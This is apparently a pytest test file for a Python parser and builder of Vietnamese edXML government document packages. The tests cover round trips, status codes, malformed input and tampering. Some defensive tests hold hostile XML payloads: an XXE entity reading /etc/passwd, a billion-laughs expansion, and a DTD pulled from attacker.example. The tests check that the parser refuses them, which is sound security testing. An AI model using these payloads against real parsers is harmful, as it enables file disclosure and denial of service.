"""edXML packages survive a round trip; hostile or broken packages are refused clearly."""

from __future__ import annotations

import dataclasses
import time
from datetime import date, datetime, timedelta, timezone

import pytest
from lxml import etree

from formats.edxml import (
    NS,
    Attachment,
    Business,
    EdxmlError,
    EdxmlMessage,
    OrganInfo,
    OtherInfo,
    ResponseFor,
    SignerInfo,
    StaffInfo,
    StatusCode,
    StatusMessage,
    TraceHeader,
    build_package,
    build_status,
    parse_package,
    parse_status,
)

VN = timezone(timedelta(hours=7))
UBND = OrganInfo(organ_id="000.00.00.H41", organ_name="Ủy ban nhân dân tỉnh Hòa Bình",
                 organ_add="Đường Trần Hưng Đạo, TP Hòa Bình", email="ubnd@hoabinh.gov.vn",
                 telephone="0218 3852 111")
SNV = OrganInfo(organ_id="000.01.00.H41", organ_name="Sở Nội vụ tỉnh Hòa Bình")
STC = OrganInfo(organ_id="000.02.00.H41", organ_name="Sở Tài chính tỉnh Hòa Bình")

MESSAGE = EdxmlMessage(
    from_org=UBND,
    to_orgs=(SNV, STC),
    code_number="15",
    code_notation="QĐ-UBND",
    place="Hòa Bình",
    promulgation_date=date(2026, 2, 5),
    document_type=1,
    type_name="Quyết định",
    subject="Về việc ban hành Quy chế công tác văn thư",
    content="Ban hành kèm theo Quyết định này Quy chế công tác văn thư.",
    signer=SignerInfo(competence="KT. CHỦ TỊCH", position="Phó Chủ tịch",
                      full_name="Nguyễn Văn Đức"),
    due_date=date(2026, 3, 15),
    to_places=("Sở Nội vụ", "Sở Tài chính"),
    other_info=OtherInfo(priority=1, sphere_of_promulgation="Toàn tỉnh", typer_notation="NVA",
                         promulgation_amount=10, page_amount=3,
                         appendixes=("Phụ lục I: Mẫu sổ đăng ký",)),
    response_for=(ResponseFor("000.01.00.H41", "07/TTr-SNV", date(2026, 1, 20),
                              "000.01.00.H41,2026/01/20,07/TTr-SNV"),),
    steering_type=0,
    trace_headers=(TraceHeader("000.00.00.H41", datetime(2026, 2, 5, 9, 30, 15, tzinfo=VN)),),
    business=Business(doc_type=0, reason="",
                      staff=StaffInfo("Văn phòng", "Lê Thị Văn Thư", "0912345678",
                                      "vanthu@hoabinh.gov.vn")),
)
ATTACHMENTS = [
    Attachment("15-QD-UBND.pdf", "application/pdf", b"%PDF-1.7\n" + bytes(range(256)) * 50,
               "Văn bản chính"),
    Attachment("Phụ lục.docx", "application/vnd.openxmlformats-officedocument."
               "wordprocessingml.document", b"PK\x03\x04 phu luc"),
]


def test_round_trip_keeps_every_field_and_attachment() -> None:
    package = parse_package(build_package(MESSAGE, ATTACHMENTS))
    assert package.message == MESSAGE
    assert package.attachments == tuple(ATTACHMENTS)
    assert package.document_id == "000.00.00.H41,2026/02/05,15/QĐ-UBND"


def test_package_uses_qcvn_namespace_and_cid_manifest() -> None:
    root = etree.fromstring(build_package(MESSAGE, ATTACHMENTS))
    ns = {"e": NS}
    assert root.tag == f"{{{NS}}}edXMLEnvelope"
    assert root.findtext("e:edXMLHeader/e:MessageHeader/e:Code/e:CodeNotation",
                         namespaces=ns) == "QĐ-UBND"
    assert root.findtext("e:edXMLHeader/e:MessageHeader/e:DocumentId", namespaces=ns) == (
        "000.00.00.H41,2026/02/05,15/QĐ-UBND")
    refs = root.findall("e:edXMLBody/e:edXMLManifest/e:Reference", namespaces=ns)
    hrefs = [r.get(f"{{{NS}}}href") for r in refs]
    assert len(hrefs) == 2 and all(h.startswith("cid:") for h in hrefs)
    ids = [a.get(f"{{{NS}}}ContentId")
           for a in root.findall("e:AttachmentEncoded/e:Attachment", namespaces=ns)]
    assert [f"cid:{i}" for i in ids] == hrefs


def test_minimal_package_without_optional_parts() -> None:
    message = EdxmlMessage(from_org=UBND, to_orgs=(SNV,), code_number="05",
                           code_notation="UBND-VP", place="Hòa Bình",
                           promulgation_date=date(2026, 1, 2), document_type=0,
                           type_name="Công văn", subject="V/v báo cáo",
                           signer=SignerInfo("", "Chánh Văn phòng", "Trần Thị Nhung"))
    package = parse_package(build_package(message, []))
    assert package.message == message and package.attachments == ()


@pytest.mark.parametrize("secrecy", ["Mật", "Tối mật", "Tuyệt mật"])
def test_secret_documents_are_never_packaged(secrecy: str) -> None:
    with pytest.raises(EdxmlError, match="độ mật"):
        build_package(dataclasses.replace(MESSAGE, secrecy=secrecy), ATTACHMENTS)


@pytest.mark.parametrize("code", list(StatusCode))
def test_status_round_trip_for_every_code(code: StatusCode) -> None:
    status = StatusMessage(
        response_for=ResponseFor("000.00.00.H41", "15/QĐ-UBND", date(2026, 2, 5),
                                 "000.00.00.H41,2026/02/05,15/QĐ-UBND"),
        from_org=SNV, code=code, timestamp=datetime(2026, 2, 5, 10, 0, 1, tzinfo=VN),
        description=code.label, staff=StaffInfo("Văn phòng Sở", "Phạm Văn Thư"))
    assert parse_status(build_status(status)) == status


def test_status_codes_match_the_standard() -> None:
    assert [c.value for c in StatusCode] == ["01", "02", "03", "04", "05", "06", "13", "15",
                                             "16"]


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<edXML:edXMLEnvelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">&x;</edXML:edXMLEnvelope>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<edXML:edXMLEnvelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">&lol3;</edXML:edXMLEnvelope>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<edXML:edXMLEnvelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""


@pytest.mark.parametrize("payload", [XXE, LAUGHS, REMOTE_DTD], ids=["xxe", "laughs", "dtd"])
def test_hostile_xml_is_refused_fast(payload: bytes) -> None:
    start = time.monotonic()
    for parse in (parse_package, parse_status):
        with pytest.raises(EdxmlError, match="DTD"):
            parse(payload)
    assert time.monotonic() - start < 1


def test_utf16_smuggled_doctype_is_refused() -> None:
    with pytest.raises(EdxmlError):
        parse_package(XXE.decode().encode("utf-16"))


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"", "rỗng"),
        (b"not xml", "XML"),
        (b"<edXML:edXMLEnvelope xmlns:edXML='urn:other'/>", "QCVN 102"),
        (b"<a><b></a>", "cú pháp"),
        (f"<e:edXMLEnvelope xmlns:e='{NS}'><e:edXMLHeader/></e:edXMLEnvelope>".encode(),
         "MessageHeader"),
    ],
)
def test_malformed_packages_give_clear_errors(payload: bytes, message: str) -> None:
    with pytest.raises(EdxmlError, match=message):
        parse_package(payload)


def test_tampered_attachment_and_manifest_are_detected() -> None:
    good = build_package(MESSAGE, ATTACHMENTS[:1])
    root = etree.fromstring(good)
    node = root.find(f"{{{NS}}}AttachmentEncoded/{{{NS}}}Attachment")
    node.text = "!!! not base64 !!!"
    with pytest.raises(EdxmlError, match="base64"):
        parse_package(etree.tostring(root))
    root = etree.fromstring(good)
    node = root.find(f"{{{NS}}}AttachmentEncoded/{{{NS}}}Attachment")
    node.set(f"{{{NS}}}ContentId", "other@edxml")
    with pytest.raises(EdxmlError, match="thiếu nội dung"):
        parse_package(etree.tostring(root))


def test_bad_dates_and_unknown_status_codes() -> None:
    bad_date = build_package(MESSAGE, []).replace(b"2026/02/05</", b"05-02-2026</", 1)
    with pytest.raises(EdxmlError, match="không hợp lệ"):
        parse_package(bad_date)
    status = build_status(StatusMessage(
        response_for=MESSAGE.response_for[0], from_org=SNV, code=StatusCode.ARRIVED,
        timestamp=datetime(2026, 2, 5, tzinfo=VN)))
    with pytest.raises(EdxmlError, match="không được hỗ trợ"):
        parse_status(status.replace(b">01<", b">99<"))
